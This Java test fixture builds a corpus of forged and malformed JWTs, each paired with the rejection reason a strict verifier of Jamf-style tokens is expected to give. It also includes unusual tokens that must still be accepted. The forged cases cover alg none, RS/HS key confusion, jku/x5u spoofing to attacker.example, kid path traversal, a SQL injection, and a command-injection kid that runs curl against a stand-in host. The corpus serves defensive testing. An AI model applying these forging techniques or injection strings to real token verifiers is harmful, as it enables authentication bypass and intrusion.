package dev.securedcontent.jwt.core;

import static dev.securedcontent.jwt.core.RawJws.b64;
import static dev.securedcontent.jwt.core.RawJws.hmac;
import static dev.securedcontent.jwt.core.RawJws.ps256;
import static dev.securedcontent.jwt.core.RawJws.rs256;
import static dev.securedcontent.jwt.core.RawJws.sign;
import static dev.securedcontent.jwt.core.RejectionReason.BAD_SIGNATURE;
import static dev.securedcontent.jwt.core.RejectionReason.EXPIRED;
import static dev.securedcontent.jwt.core.RejectionReason.LIFETIME_TOO_LONG;
import static dev.securedcontent.jwt.core.RejectionReason.MALFORMED;
import static dev.securedcontent.jwt.core.RejectionReason.MISSING;
import static dev.securedcontent.jwt.core.RejectionReason.NOT_YET_VALID;
import static dev.securedcontent.jwt.core.RejectionReason.NO_EXPIRY;
import static dev.securedcontent.jwt.core.RejectionReason.TOO_LONG;
import static dev.securedcontent.jwt.core.RejectionReason.UNKNOWN_KEY;
import static dev.securedcontent.jwt.core.RejectionReason.UNSUPPORTED_ALGORITHM;
import static dev.securedcontent.jwt.core.RejectionReason.UNSUPPORTED_CRITICAL_HEADER;
import static dev.securedcontent.jwt.core.RejectionReason.WRONG_ISSUER;
import static dev.securedcontent.jwt.core.RejectionReason.WRONG_SUBJECT;

import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.PrivateKey;
import java.security.interfaces.RSAPublicKey;
import java.time.Clock;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Objects;
import java.util.zip.Deflater;

/**
 * Named bad content tokens, each with the {@link RejectionReason} a default
 * {@link ContentTokenVerifier} (see {@link #verifier}) must give, covering the attack classes of
 * the domain notes: jwt_tool's list (alg none, null signature, RS/HS confusion, embedded jwk,
 * jku/x5u spoofing, kid injection), OWASP WSTG-SESS-10, and strict-encoding cases. Also a few
 * unusual but valid tokens ({@link #validTokens}) that must be accepted, so the strictness is not
 * just refusing everything.
 *
 * <p>Deterministic for fixed keys and a fixed {@link Clock}: every signature is RSASSA-PKCS1-v1_5,
 * HMAC, PSS with a zero-length salt, or fixed bytes, all made by {@link RawJws}. Reused by the nginx parity tests and the
 * benchmarks through jwt-core's test-jar.
 */
public final class BadTokenCorpus {

    /** One bad token and the reason it must be refused with. */
    public record Case(String name, String token, RejectionReason expected) {
        public Case {
            Objects.requireNonNull(name, "name");
            Objects.requireNonNull(token, "token");
            Objects.requireNonNull(expected, "expected");
        }

        @Override
        public String toString() {
            return name + " -> " + expected;
        }
    }

    /** One token that is odd but valid: a verifier must accept it. */
    public record Valid(String name, String token) {
        @Override
        public String toString() {
            return name;
        }
    }

    /** Jamf Pro's header. */
    public static final String JAMF_HEADER = "{\"alg\":\"RS256\"}";

    private BadTokenCorpus() {}

    /** A fresh RSA key pair of 2048 bits (plain JCA, no RsaKeys). */
    public static KeyPair newKeyPair() {
        return newKeyPair(2048);
    }

    /** A fresh RSA key pair of {@code bits} bits. */
    public static KeyPair newKeyPair(int bits) {
        try {
            KeyPairGenerator generator = KeyPairGenerator.getInstance("RSA");
            generator.initialize(bits);
            return generator.generateKeyPair();
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    /**
     * The verifier the corpus's expectations hold for: accepts {@code trusted}'s public key only,
     * with every default (60 s skew, 120 min lifetime, 4096 characters).
     */
    public static ContentTokenVerifier verifier(KeyPair trusted, Clock clock) {
        return ContentTokenVerifier.builder(trusted.getPublic()).clock(clock).build();
    }

    /** Jamf's payload expiring {@code secondsFromNow} after the clock's now. */
    public static String jamfPayload(Clock clock, long secondsFromNow) {
        return "{\"sub\":\"AppManifest\",\"iss\":\"JSS\",\"exp\":" + (now(clock) + secondsFromNow) + "}";
    }

    /** Jamf's payload expiring at {@code exp}. */
    public static String jamfPayload(Instant exp) {
        return "{\"sub\":\"AppManifest\",\"iss\":\"JSS\",\"exp\":" + exp.getEpochSecond() + "}";
    }

    /** A valid Jamf-form token signed by {@code key}, expiring in 5 minutes. */
    public static String jamfToken(PrivateKey key, Clock clock) {
        return rs256(JAMF_HEADER, jamfPayload(clock, 300), key);
    }

    /** Every bad token. */
    public static List<Case> cases(KeyPair trusted, KeyPair untrusted, Clock clock) {
        PrivateKey good = trusted.getPrivate();
        PrivateKey evil = untrusted.getPrivate();
        RSAPublicKey trustedPublic = (RSAPublicKey) trusted.getPublic();
        String payload = jamfPayload(clock, 300);
        String valid = rs256(JAMF_HEADER, payload, good);
        String[] parts = valid.split("\\.");
        String signingInput = parts[0] + "." + parts[1];
        long now = now(clock);
        List<Case> cases = new ArrayList<>();

        // --- presence, length and structure ---
        cases.add(new Case("empty string", "", MISSING));
        cases.add(new Case("longer than 4096 characters", signingInput + "." + "A".repeat(4097 - signingInput.length()), TOO_LONG));
        cases.add(new Case("one segment", parts[0], MALFORMED));
        cases.add(new Case("two segments, signature and its dot dropped", signingInput, MALFORMED));
        cases.add(new Case("four segments", valid + "." + parts[2], MALFORMED));
        cases.add(new Case("five segments (JWE shape)", b64("{\"alg\":\"RSA-OAEP\",\"enc\":\"A256GCM\"}") + ".AAAA.AAAA.AAAA.AAAA", MALFORMED));
        cases.add(new Case("empty header segment", "." + parts[1] + "." + parts[2], MALFORMED));
        cases.add(new Case("only dots", "..", MALFORMED));

        // --- strict base64url ---
        cases.add(new Case("padding '=' after the payload", parts[0] + "." + padded(parts[1]) + "." + parts[2], MALFORMED));
        cases.add(new Case("padding '==' after the signature", valid + "==", MALFORMED));
        cases.add(new Case("space inside the signature", signingInput + "." + parts[2].substring(0, 10) + " " + parts[2].substring(10), MALFORMED));
        cases.add(new Case("trailing newline", valid + "\n", MALFORMED));
        cases.add(new Case("leading space", " " + valid, MALFORMED));
        cases.add(new Case("standard base64 '/' in the signature", signingInput + "./" + parts[2].substring(1), MALFORMED));
        cases.add(new Case("'*' in the payload", parts[0] + "." + "*" + parts[1].substring(1) + "." + parts[2], MALFORMED));
        cases.add(new Case("impossible base64 length (4n+1) signature", valid + "AAA", MALFORMED));
        cases.add(new Case("non-canonical trailing bits in the signature", signingInput + "." + nonCanonical(parts[2]), MALFORMED));
        cases.add(new Case("percent-encoded dot", parts[0] + "%2E" + parts[1] + "." + parts[2], MALFORMED));

        // --- algorithm: none in every case, with and without a signature ---
        for (String none : new String[] {"none", "None", "NONE", "nOnE"}) {
            String header = "{\"alg\":\"" + none + "\"}";
            cases.add(new Case("alg " + none + ", empty signature", b64(header) + "." + parts[1] + ".", UNSUPPORTED_ALGORITHM));
        }
        cases.add(new Case("alg none, original RS256 signature kept", b64("{\"alg\":\"none\"}") + "." + parts[1] + "." + parts[2], UNSUPPORTED_ALGORITHM));
        cases.add(new Case("alg none with typ JWT, no trailing dot", b64("{\"alg\":\"none\",\"typ\":\"JWT\"}") + "." + parts[1], MALFORMED));
        cases.add(new Case("alg absent", rs256("{\"typ\":\"JWT\"}", payload, good), UNSUPPORTED_ALGORITHM));
        cases.add(new Case("alg empty string", rs256("{\"alg\":\"\"}", payload, good), UNSUPPORTED_ALGORITHM));
        cases.add(new Case("alg rs256 in lower case", rs256("{\"alg\":\"rs256\"}", payload, good), UNSUPPORTED_ALGORITHM));
        cases.add(new Case("alg with a trailing space", rs256("{\"alg\":\"RS256 \"}", payload, good), UNSUPPORTED_ALGORITHM));
        cases.add(new Case("alg as an array", rs256("{\"alg\":[\"RS256\"]}", payload, good), UNSUPPORTED_ALGORITHM));
        cases.add(new Case("alg null", rs256("{\"alg\":null}", payload, good), UNSUPPORTED_ALGORITHM));

        // --- RS/HS confusion: HMAC keyed with the public key's bytes ---
        String pem = pem(trustedPublic);
        cases.add(new Case("HS256 keyed with the public key PEM", hmac("{\"alg\":\"HS256\"}", payload, pem.getBytes(StandardCharsets.US_ASCII), "HmacSHA256"), UNSUPPORTED_ALGORITHM));
        cases.add(new Case("HS256 keyed with the public key PEM, no final newline", hmac("{\"alg\":\"HS256\",\"typ\":\"JWT\"}", payload, pem.strip().getBytes(StandardCharsets.US_ASCII), "HmacSHA256"), UNSUPPORTED_ALGORITHM));
        cases.add(new Case("HS256 keyed with the public key DER", hmac("{\"alg\":\"HS256\"}", payload, trustedPublic.getEncoded(), "HmacSHA256"), UNSUPPORTED_ALGORITHM));
        cases.add(new Case("HS512 keyed with the public key modulus", hmac("{\"alg\":\"HS512\"}", payload, unsigned(trustedPublic.getModulus()), "HmacSHA512"), UNSUPPORTED_ALGORITHM));

        // --- other signature algorithms, even with the trusted key ---
        cases.add(new Case("RS384 signed by the trusted key", sign("{\"alg\":\"RS384\"}", payload, good, "SHA384withRSA"), UNSUPPORTED_ALGORITHM));
        cases.add(new Case("RS512 signed by the trusted key", sign("{\"alg\":\"RS512\"}", payload, good, "SHA512withRSA"), UNSUPPORTED_ALGORITHM));
        cases.add(new Case("PS256 signed by the trusted key", ps256("{\"alg\":\"PS256\"}", payload, good), UNSUPPORTED_ALGORITHM));
        cases.add(new Case("ES256 header with a 64-byte signature", b64("{\"alg\":\"ES256\"}") + "." + parts[1] + "." + b64(new byte[64]), UNSUPPORTED_ALGORITHM));
        cases.add(new Case("EdDSA header", b64("{\"alg\":\"EdDSA\"}") + "." + parts[1] + "." + b64(new byte[64]), UNSUPPORTED_ALGORITHM));
        cases.add(new Case("RS256 header with an RS512 signature", sign(JAMF_HEADER, payload, good, "SHA512withRSA"), BAD_SIGNATURE));

        // --- keys and key references inside the token are never used ---
        RSAPublicKey evilPublic = (RSAPublicKey) untrusted.getPublic();
        String jwk = "{\"kty\":\"RSA\",\"e\":\"" + b64(unsigned(evilPublic.getPublicExponent()))
                + "\",\"n\":\"" + b64(unsigned(evilPublic.getModulus())) + "\"}";
        cases.add(new Case("embedded jwk with the attacker's key", rs256("{\"alg\":\"RS256\",\"jwk\":" + jwk + "}", payload, evil), BAD_SIGNATURE));
        cases.add(new Case("jku pointing at the attacker's JWKS", rs256("{\"alg\":\"RS256\",\"jku\":\"https://attacker.example/jwks.json\"}", payload, evil), BAD_SIGNATURE));
        cases.add(new Case("x5u pointing at the attacker's certificate", rs256("{\"alg\":\"RS256\",\"x5u\":\"https://attacker.example/cert.pem\"}", payload, evil), BAD_SIGNATURE));
        cases.add(new Case("x5c with the attacker's certificate chain", rs256("{\"alg\":\"RS256\",\"x5c\":[\"" + Base64.getEncoder().encodeToString(evilPublic.getEncoded()) + "\"]}", payload, evil), BAD_SIGNATURE));
        cases.add(new Case("kid path traversal, HS256 with an empty key", hmac("{\"alg\":\"HS256\",\"kid\":\"../../../../../../dev/null\"}", payload, new byte[1], "HmacSHA256"), UNSUPPORTED_ALGORITHM));
        cases.add(new Case("kid path traversal, RS256 by the attacker", rs256("{\"alg\":\"RS256\",\"kid\":\"../../../../../../dev/null\"}", payload, evil), UNKNOWN_KEY));
        cases.add(new Case("kid SQL injection", rs256("{\"alg\":\"RS256\",\"kid\":\"x' UNION SELECT 'secret' --\"}", payload, evil), UNKNOWN_KEY));
        cases.add(new Case("kid command injection", rs256("{\"alg\":\"RS256\",\"kid\":\"key.pem|curl attacker.example;id\"}", payload, evil), UNKNOWN_KEY));
        cases.add(new Case("kid unknown, signed by the trusted key", rs256("{\"alg\":\"RS256\",\"kid\":\"some-other-key\"}", payload, good), UNKNOWN_KEY));
        cases.add(new Case("kid as a number", rs256("{\"alg\":\"RS256\",\"kid\":1}", payload, good), MALFORMED));
        cases.add(new Case("kid naming the trusted key, signed by the attacker", rs256("{\"alg\":\"RS256\",\"kid\":\"" + RsaKeys.thumbprint(trustedPublic) + "\"}", payload, evil), BAD_SIGNATURE));

        // --- crit and other header extensions ---
        cases.add(new Case("crit naming exp", rs256("{\"alg\":\"RS256\",\"crit\":[\"exp\"],\"exp\":1}", payload, good), UNSUPPORTED_CRITICAL_HEADER));
        cases.add(new Case("crit b64 false (RFC 7797 unencoded payload)", rs256("{\"alg\":\"RS256\",\"b64\":false,\"crit\":[\"b64\"]}", payload, good), UNSUPPORTED_CRITICAL_HEADER));
        cases.add(new Case("crit empty array", rs256("{\"alg\":\"RS256\",\"crit\":[]}", payload, good), MALFORMED));
        cases.add(new Case("zip DEF with a deflated payload", sign(utf8("{\"alg\":\"RS256\",\"zip\":\"DEF\"}"), deflate(payload), good, "SHA256withRSA"), MALFORMED));

        // --- the signature ---
        byte[] signature = Base64.getUrlDecoder().decode(parts[2]);
        cases.add(new Case("signed by another key", rs256(JAMF_HEADER, payload, evil), BAD_SIGNATURE));
        cases.add(new Case("empty signature", signingInput + ".", BAD_SIGNATURE));
        cases.add(new Case("null signature (256 zero bytes)", signingInput + "." + b64(new byte[256]), BAD_SIGNATURE));
        cases.add(new Case("signature equal to the modulus", signingInput + "." + b64(unsigned(trustedPublic.getModulus())), BAD_SIGNATURE));
        cases.add(new Case("truncated signature (last byte dropped)", signingInput + "." + b64(java.util.Arrays.copyOf(signature, 255)), BAD_SIGNATURE));
        cases.add(new Case("signature with a leading zero byte", signingInput + "." + b64(prepend0(signature)), BAD_SIGNATURE));
        cases.add(new Case("flipped bit in the signature", signingInput + "." + b64(flip(signature, 100)), BAD_SIGNATURE));
        cases.add(new Case("flipped bit in the payload (exp moved)", parts[0] + "." + b64(flipLastDigit(payload)) + "." + parts[2], BAD_SIGNATURE));
        cases.add(new Case("header swapped after signing (typ added)", b64("{\"alg\":\"RS256\",\"typ\":\"JWT\"}") + "." + parts[1] + "." + parts[2], BAD_SIGNATURE));
        cases.add(new Case("signature of another token", signingInput + "." + rs256(JAMF_HEADER, jamfPayload(clock, 301), good).split("\\.")[2], BAD_SIGNATURE));
        cases.add(new Case("attacker claims with the trusted signature", parts[0] + "." + b64(jamfPayload(clock, 7000)) + "." + parts[2], BAD_SIGNATURE));

        // --- claims, signed by the trusted key ---
        cases.add(new Case("no exp", rs256(JAMF_HEADER, "{\"sub\":\"AppManifest\",\"iss\":\"JSS\"}", good), NO_EXPIRY));
        cases.add(new Case("exp as a string", rs256(JAMF_HEADER, "{\"sub\":\"AppManifest\",\"iss\":\"JSS\",\"exp\":\"" + (now + 300) + "\"}", good), MALFORMED));
        cases.add(new Case("exp with a fraction", rs256(JAMF_HEADER, "{\"sub\":\"AppManifest\",\"iss\":\"JSS\",\"exp\":" + (now + 300) + ".5}", good), MALFORMED));
        cases.add(new Case("exp beyond 64 bits", rs256(JAMF_HEADER, "{\"sub\":\"AppManifest\",\"iss\":\"JSS\",\"exp\":100000000000000000000000000000}", good), MALFORMED));
        cases.add(new Case("exp in exponent notation", rs256(JAMF_HEADER, "{\"sub\":\"AppManifest\",\"iss\":\"JSS\",\"exp\":1e10}", good), MALFORMED));
        cases.add(new Case("exp null", rs256(JAMF_HEADER, "{\"sub\":\"AppManifest\",\"iss\":\"JSS\",\"exp\":null}", good), MALFORMED));
        cases.add(new Case("expired an hour ago", rs256(JAMF_HEADER, jamfPayload(clock, -3600), good), EXPIRED));
        cases.add(new Case("expired just beyond the 60 s skew", rs256(JAMF_HEADER, jamfPayload(clock, -61), good), EXPIRED));
        cases.add(new Case("exp negative", rs256(JAMF_HEADER, "{\"sub\":\"AppManifest\",\"iss\":\"JSS\",\"exp\":-1}", good), EXPIRED));
        cases.add(new Case("nbf an hour ahead", rs256(JAMF_HEADER, "{\"sub\":\"AppManifest\",\"iss\":\"JSS\",\"exp\":" + (now + 300) + ",\"nbf\":" + (now + 3600) + "}", good), NOT_YET_VALID));
        cases.add(new Case("iat an hour ahead", rs256(JAMF_HEADER, "{\"sub\":\"AppManifest\",\"iss\":\"JSS\",\"exp\":" + (now + 300) + ",\"iat\":" + (now + 3600) + "}", good), NOT_YET_VALID));
        cases.add(new Case("nbf as a string", rs256(JAMF_HEADER, "{\"sub\":\"AppManifest\",\"iss\":\"JSS\",\"exp\":" + (now + 300) + ",\"nbf\":\"0\"}", good), MALFORMED));
        cases.add(new Case("lifetime beyond 120 minutes plus skew", rs256(JAMF_HEADER, jamfPayload(clock, 120 * 60 + 61 + 1), good), LIFETIME_TOO_LONG));
        cases.add(new Case("exp at the end of time", rs256(JAMF_HEADER, "{\"sub\":\"AppManifest\",\"iss\":\"JSS\",\"exp\":" + Long.MAX_VALUE + "}", good), LIFETIME_TOO_LONG));
        for (String iss : new String[] {"jss", "JSs", " JSS", "JSS ", "JSS\\u0000", "J\\u0405S", ""}) {
            cases.add(new Case("iss \"" + iss + "\"", rs256(JAMF_HEADER, "{\"sub\":\"AppManifest\",\"iss\":\"" + iss + "\",\"exp\":" + (now + 300) + "}", good), WRONG_ISSUER));
        }
        cases.add(new Case("iss as an array", rs256(JAMF_HEADER, "{\"sub\":\"AppManifest\",\"iss\":[\"JSS\"],\"exp\":" + (now + 300) + "}", good), WRONG_ISSUER));
        cases.add(new Case("iss missing", rs256(JAMF_HEADER, "{\"sub\":\"AppManifest\",\"exp\":" + (now + 300) + "}", good), WRONG_ISSUER));
        for (String sub : new String[] {"appmanifest", "APPMANIFEST", "AppManifest ", "\\tAppManifest", "AppManifest\\u0301", "AppManifest\\u0000", "\\uff21ppManifest"}) {
            cases.add(new Case("sub \"" + sub + "\"", rs256(JAMF_HEADER, "{\"sub\":\"" + sub + "\",\"iss\":\"JSS\",\"exp\":" + (now + 300) + "}", good), WRONG_SUBJECT));
        }
        cases.add(new Case("sub as an array", rs256(JAMF_HEADER, "{\"sub\":[\"AppManifest\"],\"iss\":\"JSS\",\"exp\":" + (now + 300) + "}", good), WRONG_SUBJECT));
        cases.add(new Case("sub missing", rs256(JAMF_HEADER, "{\"iss\":\"JSS\",\"exp\":" + (now + 300) + "}", good), WRONG_SUBJECT));

        // --- strict JSON ---
        cases.add(new Case("duplicate alg in the header (none, then RS256)", rs256("{\"alg\":\"none\",\"alg\":\"RS256\"}", payload, good), MALFORMED));
        cases.add(new Case("duplicate alg in the header via an escaped name", rs256("{\"alg\":\"RS256\",\"\\u0061lg\":\"none\"}", payload, good), MALFORMED));
        cases.add(new Case("duplicate exp in the payload", rs256(JAMF_HEADER, "{\"sub\":\"AppManifest\",\"iss\":\"JSS\",\"exp\":" + (now + 300) + ",\"exp\":" + (now + 999_999) + "}", good), MALFORMED));
        cases.add(new Case("duplicate iss in the payload", rs256(JAMF_HEADER, "{\"sub\":\"AppManifest\",\"iss\":\"evil\",\"iss\":\"JSS\",\"exp\":" + (now + 300) + "}", good), MALFORMED));
        cases.add(new Case("trailing data after the header JSON", rs256(JAMF_HEADER + "x", payload, good), MALFORMED));
        cases.add(new Case("two JSON objects in the payload", rs256(JAMF_HEADER, payload + "{}", good), MALFORMED));
        cases.add(new Case("header JSON nested 1000 deep", rs256("{\"alg\":\"RS256\",\"x\":" + "[".repeat(1000) + "]".repeat(1000) + "}", payload, good), MALFORMED));
        cases.add(new Case("payload JSON nested 100 deep", rs256(JAMF_HEADER, "{\"sub\":\"AppManifest\",\"iss\":\"JSS\",\"exp\":" + (now + 300) + ",\"x\":" + "[".repeat(100) + "]".repeat(100) + "}", good), MALFORMED));
        cases.add(new Case("header not JSON", rs256("alg=RS256", payload, good), MALFORMED));
        cases.add(new Case("header a JSON array", rs256("[\"RS256\"]", payload, good), MALFORMED));
        cases.add(new Case("header with a UTF-8 byte order mark", sign(concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, utf8(JAMF_HEADER)), utf8(payload), good, "SHA256withRSA"), MALFORMED));
        cases.add(new Case("header with single quotes", rs256("{'alg':'RS256'}", payload, good), MALFORMED));
        cases.add(new Case("payload not JSON", rs256(JAMF_HEADER, "sub=AppManifest&iss=JSS", good), MALFORMED));
        cases.add(new Case("payload a JSON array", rs256(JAMF_HEADER, "[" + payload + "]", good), MALFORMED));
        cases.add(new Case("payload invalid UTF-8 (overlong '\"')", sign(utf8(JAMF_HEADER), new byte[] {'{', '"', 's', (byte) 0xC0, (byte) 0xA2, '"', ':', '1', '}'}, good, "SHA256withRSA"), MALFORMED));
        cases.add(new Case("payload lone surrogate escape", rs256(JAMF_HEADER, "{\"sub\":\"AppManifest\",\"iss\":\"JSS\",\"exp\":" + (now + 300) + ",\"x\":\"\\ud800\"}", good), MALFORMED));
        cases.add(new Case("payload with a trailing comma", rs256(JAMF_HEADER, "{\"sub\":\"AppManifest\",\"iss\":\"JSS\",\"exp\":" + (now + 300) + ",}", good), MALFORMED));
        cases.add(new Case("payload with a comment", rs256(JAMF_HEADER, "{\"sub\":\"AppManifest\",\"iss\":\"JSS\",/*x*/\"exp\":" + (now + 300) + "}", good), MALFORMED));
        cases.add(new Case("payload exp with a leading zero", rs256(JAMF_HEADER, "{\"sub\":\"AppManifest\",\"iss\":\"JSS\",\"exp\":0" + (now + 300) + "}", good), MALFORMED));
        cases.add(new Case("empty payload", rs256(JAMF_HEADER, "", good), MALFORMED));

        assertUniqueNames(cases);
        return List.copyOf(cases);
    }

    /** Unusual but valid tokens, all signed by {@code trusted}: a strict verifier must still accept them. */
    public static List<Valid> validTokens(KeyPair trusted, Clock clock) {
        PrivateKey good = trusted.getPrivate();
        long now = now(clock);
        String payload = jamfPayload(clock, 300);
        List<Valid> valid = new ArrayList<>();
        valid.add(new Valid("Jamf form, 5 minutes", rs256(JAMF_HEADER, payload, good)));
        valid.add(new Valid("Jamf form, 120 minutes", rs256(JAMF_HEADER, jamfPayload(clock, 120 * 60), good)));
        valid.add(new Valid("Jamf form, 1 minute", rs256(JAMF_HEADER, jamfPayload(clock, 60), good)));
        valid.add(new Valid("expired 30 s ago, within the 60 s skew", rs256(JAMF_HEADER, jamfPayload(clock, -30), good)));
        valid.add(new Valid("typ JWT in the header", rs256("{\"alg\":\"RS256\",\"typ\":\"JWT\"}", payload, good)));
        valid.add(new Valid("kid = RFC 7638 thumbprint of the trusted key", rs256("{\"alg\":\"RS256\",\"kid\":\"" + RsaKeys.thumbprint((RSAPublicKey) trusted.getPublic()) + "\"}", payload, good)));
        valid.add(new Valid("jku present but ignored (signed by the trusted key)", rs256("{\"alg\":\"RS256\",\"jku\":\"https://attacker.example/jwks.json\"}", payload, good)));
        valid.add(new Valid("claims in another order, with whitespace", rs256(JAMF_HEADER, "{ \"exp\" : " + (now + 300) + ",\n\t\"iss\" : \"JSS\", \"sub\" : \"AppManifest\" }", good)));
        valid.add(new Valid("escaped but equal sub (\\u0041ppManifest)", rs256(JAMF_HEADER, "{\"sub\":\"\\u0041ppManifest\",\"iss\":\"JSS\",\"exp\":" + (now + 300) + "}", good)));
        valid.add(new Valid("nbf and iat in the past", rs256(JAMF_HEADER, "{\"sub\":\"AppManifest\",\"iss\":\"JSS\",\"exp\":" + (now + 300) + ",\"nbf\":" + (now - 10) + ",\"iat\":" + (now - 10) + "}", good)));
        valid.add(new Valid("nbf 30 s ahead, within the skew", rs256(JAMF_HEADER, "{\"sub\":\"AppManifest\",\"iss\":\"JSS\",\"exp\":" + (now + 300) + ",\"nbf\":" + (now + 30) + "}", good)));
        valid.add(new Valid("extra claims (aud, jti, nested object)", rs256(JAMF_HEADER, "{\"sub\":\"AppManifest\",\"iss\":\"JSS\",\"exp\":" + (now + 300) + ",\"aud\":\"x\",\"jti\":\"1\",\"o\":{\"a\":[1,2]}}", good)));
        return List.copyOf(valid);
    }

    // ---- helpers (the tokens themselves: RawJws) ----

    static long now(Clock clock) {
        return Math.floorDiv(clock.millis(), 1000L);
    }

    static String pem(RSAPublicKey key) {
        return "-----BEGIN PUBLIC KEY-----\n"
                + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(key.getEncoded())
                + "\n-----END PUBLIC KEY-----\n";
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[] first, byte[] second) {
        byte[] all = java.util.Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, all, first.length, second.length);
        return all;
    }

    private static byte[] deflate(String text) {
        Deflater deflater = new Deflater(Deflater.DEFAULT_COMPRESSION, true);
        deflater.setInput(text.getBytes(StandardCharsets.UTF_8));
        deflater.finish();
        byte[] buffer = new byte[1024];
        int length = deflater.deflate(buffer);
        deflater.end();
        return java.util.Arrays.copyOf(buffer, length);
    }

    private static String padded(String segment) {
        return segment + "=".repeat((4 - segment.length() % 4) % 4 == 0 ? 1 : (4 - segment.length() % 4) % 4);
    }

    /** The same bytes with the unused low bits of the last character set (a second encoding). */
    private static String nonCanonical(String segment) {
        if (segment.length() % 4 == 0) {
            throw new IllegalArgumentException("segment has no unused bits");
        }
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        int last = alphabet.indexOf(segment.charAt(segment.length() - 1));
        return segment.substring(0, segment.length() - 1) + alphabet.charAt(last | 1);
    }

    /** Big-endian magnitude without BigInteger's sign byte (as in a JWK's n and e). */
    static byte[] unsigned(java.math.BigInteger value) {
        byte[] bytes = value.toByteArray();
        return bytes.length > 1 && bytes[0] == 0 ? java.util.Arrays.copyOfRange(bytes, 1, bytes.length) : bytes;
    }

    private static byte[] flip(byte[] bytes, int index) {
        byte[] copy = bytes.clone();
        copy[index] ^= 0x01;
        return copy;
    }

    /** The payload with the lowest bit of exp's last digit flipped: still JSON, another exp. */
    private static byte[] flipLastDigit(String payload) {
        byte[] bytes = payload.getBytes(StandardCharsets.UTF_8);
        bytes[bytes.length - 2] ^= 0x01;
        return bytes;
    }

    private static byte[] prepend0(byte[] bytes) {
        byte[] copy = new byte[bytes.length + 1];
        System.arraycopy(bytes, 0, copy, 1, bytes.length);
        return copy;
    }

    private static void assertUniqueNames(List<Case> cases) {
        long distinct = cases.stream().map(Case::name).distinct().count();
        if (distinct != cases.size()) {
            throw new IllegalStateException("corpus case names must be unique");
        }
    }
}
